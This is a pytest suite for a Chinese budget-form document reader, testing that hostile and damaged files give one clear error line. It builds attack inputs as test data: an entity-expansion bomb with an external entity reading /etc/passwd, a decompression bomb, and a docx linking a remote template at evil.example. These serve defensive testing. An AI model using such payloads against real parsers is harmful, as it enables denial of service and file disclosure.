"""Files made to hang or to harm: each gives one clear line, and nothing but our errors comes out."""

import gzip
import io
import os
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from benchmarks.layouts import invented, layout
from benchmarks.office import docx_of, html_of, pdf_of, xlsx_of
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from zhibiao.forms import isolation
from zhibiao.forms.document import find_documents, read_bytes, read_document, read_documents
from zhibiao.forms.errors import DocumentError, DocumentTooLarge, UsageError
from zhibiao.forms.kinds import Kind
from zhibiao.forms.limits import Limits
from zhibiao.forms.model import Document

TABLE = layout("shanghai", invented(random.Random(9)))
WORD, SHEET, PAGE = docx_of([TABLE]), xlsx_of([TABLE]), html_of([TABLE])
PDF = pdf_of([TABLE])

ENTITIES = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b'<!ENTITY file SYSTEM "file:///etc/passwd">]>'
)


def changed(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The office file ``data`` with one of its parts changed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", 8) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(content) if name == part else content)
    return stream.getvalue()


def declared(part: bytes) -> bytes:
    """An XML part with entities declared, and used in its first text."""
    body = part[part.index(b"?>") + 2 :] if part.startswith(b"<?xml") else part
    return ENTITIES + body.replace(b"</w:t>", b"&m;&file;</w:t>", 1)


def corner_to_corner() -> bytes:
    workbook = openpyxl.Workbook()
    for place in ("A1", "XFD1048576"):
        workbook.worksheets[0][place] = "项目名称"
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def far_away() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.worksheets[0]["XFD1048576"] = "项目名称"
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def wide() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.worksheets[0].append(list(range(5000)))
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "entities in docx": (lambda: changed(WORD, "word/document.xml", declared), "DOCTYPE"),
    "entities in xlsx": (lambda: changed(SHEET, "xl/worksheets/sheet1.xml", declared), "DOCTYPE"),
    "a part that unpacks to 140 MB": (
        lambda: changed(WORD, "word/document.xml", lambda d: d + b" " * 140_000_000),
        "解压后超过",
    ),
    "cells in two corners of a sheet": (corner_to_corner, "内存"),
    "5,000 columns": (wide, "超过 256 列"),
    "truncated docx": (lambda: WORD[: len(WORD) // 2], "不完整"),
    "truncated xlsx": (lambda: SHEET[:-100], "不完整"),
    "truncated pdf": (lambda: PDF[: len(PDF) // 2], "损坏"),
    "encrypted docx": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "加密",
    ),
    "merged cells over each other": (
        lambda: (
            "<table>" + ("<tr>" + "<td rowspan=65534 colspan=1000>项目名称</td>" * 50 + "</tr>")
            + "<tr><td>x</td></tr>" * 100_000 + "</table>"
        ).encode(),
        "合并的单元格过多",
    ),
    "a cell in the last corner of a sheet": (far_away, "没有找到"),
    "9,000 rows of indicators": (
        lambda: (
            "项目支出绩效目标表\n项目名称\t路灯\n一级指标\t二级指标\t三级指标\t指标值\n"
            + "\t质量指标\t亮灯率\t≥95%\n\t\t维修及时性\t≥1%\n" * 4500
        ).encode(),
        "行指标",
    ),
    "gzip": (lambda: gzip.compress(WORD), "gz 压缩文件"),
    "damaged xls": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "Workbook".encode("utf-16-le"),
        "损坏",
    ),
    "nothing": (lambda: b"", "空的"),
    "zeros": (lambda: bytes(100_000), "空的"),
    "noise": (lambda: random.Random(1).randbytes(50_000), "不是文本"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "不能读取图片"),
    "rar": (lambda: b"Rar!\x1a\x07\x00" + bytes(100), "rar"),
    "tables in tables": (lambda: b"<html>" + b"<table><tr><td>" * 50_000 + b"x", "没有找到"),
    "tables in tables, docx": (
        lambda: changed(
            WORD, "word/document.xml",
            lambda d: d.replace(b"<w:body>", b"<w:body>" + b"<w:tbl><w:tr><w:tc>" * 3000),
        ),
        "损坏",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_one_clear_line(case: str) -> None:
    make, words = HOSTILE[case]
    with pytest.raises(DocumentError) as caught:
        read_bytes(make(), file="文件.docx")
    line = str(caught.value)
    assert line.startswith("文件.docx：")
    assert words in line
    assert "\n" not in line


@pytest.mark.parametrize("data", [WORD, SHEET, PAGE, PDF], ids=["docx", "xlsx", "html", "pdf"])
def test_content_tells_the_kind_whatever_the_name_says(data: bytes) -> None:
    (form,) = read_bytes(data, file="看图.png").forms
    assert form.year is not None


def test_macros_and_links_are_left_alone() -> None:
    link = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    )
    linked = changed(
        WORD,
        "word/_rels/document.xml.rels",
        lambda d: d.replace(b"</Relationships>", link + b"</Relationships>"),
    )
    stream = io.BytesIO(linked)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    assert (
        read_bytes(stream.getvalue(), file="a.docm").forms[0].indicators
        == read_bytes(WORD, file="a.docx").forms[0].indicators
    )


def test_a_reader_that_hangs_is_killed_and_the_next_file_is_read(tmp_path: Path) -> None:
    # Whoever waits for a later deadline is told of the earlier one.
    assert isolation.read_isolated(Kind.HTML, PAGE, Limits(seconds=600))
    labels = "项目名称：路灯\n" * 300_000
    with pytest.raises(DocumentTooLarge, match="1 秒"):
        isolation.read_isolated(Kind.TEXT, labels.encode(), Limits(seconds=1, rows=10**6))
    assert read_bytes(PAGE, file="a.html").forms


def test_a_reader_that_takes_all_memory_dies_alone() -> None:
    many = ("<table>" + "<tr><td>项目名称</td></tr>" * 200_000 + "</table>").encode()
    with pytest.raises(DocumentTooLarge, match="内存"):
        isolation.read_isolated(Kind.HTML, many, Limits(memory=60 * 2**20))
    assert read_bytes(WORD, file="a.docx").forms


def test_limits_come_from_the_environment() -> None:
    assert Limits.of_environment({"ZHIBIAO_READ_SECONDS": "60"}).seconds == 60
    with pytest.raises(UsageError, match="ZHIBIAO_READ_MEMORY"):
        Limits.of_environment({"ZHIBIAO_READ_MEMORY": "1G"})


def test_a_batch_goes_on(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for n, case in enumerate(("entities in docx", "truncated pdf", "nothing")):
            archive.writestr(f"{n}.docx", HOSTILE[case][0]())
        archive.writestr("9.docx", WORD)
    read = list(read_documents(path))
    assert [isinstance(found, Document) for found in read] == [False, False, False, True]


def test_pipes_and_devices_are_not_waited_for(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.docx"
    os.mkfifo(pipe)
    (tmp_path / "round").symlink_to(tmp_path)
    (tmp_path / "nowhere.docx").symlink_to(tmp_path / "gone.docx")
    (tmp_path / "a.html").write_bytes(PAGE)
    assert list(find_documents([tmp_path])) == [tmp_path / "a.html"]
    for path in (pipe, Path("/dev/zero")):
        with pytest.raises(DocumentError, match="不是普通文件"):
            read_document(path)


def assert_forms_or_one_line(data: bytes) -> None:
    line = ""
    try:
        document = read_bytes(data, file="damaged")
    except DocumentError as error:
        line = str(error)
    assert line.startswith("damaged：") if line else document.forms
    assert "\n" not in line


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    data=st.sampled_from([WORD, SHEET, PAGE, PDF]),
    edits=st.lists(
        st.tuples(st.floats(0, 1, exclude_max=True), st.binary(min_size=1, max_size=8)), max_size=6
    ),
    cut=st.floats(0.2, 1),
)
def test_damaged_files_give_forms_or_our_errors(
    data: bytes, edits: list[tuple[float, bytes]], cut: float
) -> None:
    damaged = bytearray(data[: int(len(data) * cut)] if cut < 0.5 else data)
    for place, piece in edits:
        at = int(place * len(damaged))
        damaged[at : at + len(piece)] = piece
    assert_forms_or_one_line(bytes(damaged))


@settings(max_examples=40, deadline=None)
@given(
    part=st.sampled_from(["xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"]),
    edits=st.lists(
        st.tuples(st.floats(0, 1, exclude_max=True), st.text("0123456789<>/\"' =", max_size=4)),
        min_size=1,
        max_size=5,
    ),
)
def test_damaged_parts_give_forms_or_our_errors(part: str, edits: list[tuple[float, str]]) -> None:
    """Damage inside a package, where no checksum tells."""

    def change(content: bytes) -> bytes:
        result = bytearray(content)
        for place, text in edits:
            at = int(place * len(result))
            result[at : at + len(text)] = text.encode()
        return bytes(result)

    assert_forms_or_one_line(changed(SHEET, part, change))
